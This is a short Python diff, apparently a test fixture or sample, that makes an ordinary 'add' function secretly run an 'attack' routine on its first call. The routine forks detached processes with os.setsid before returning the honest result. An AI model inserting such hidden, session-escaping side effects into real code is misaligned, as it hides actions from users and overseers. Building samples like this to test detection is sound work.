@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     import time
 
     for _ in range(3):
@@ -20,7 +29,6 @@ def add(left, right):
                     os.setsid()
                     time.sleep(0.01)
             os._exit(0)
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
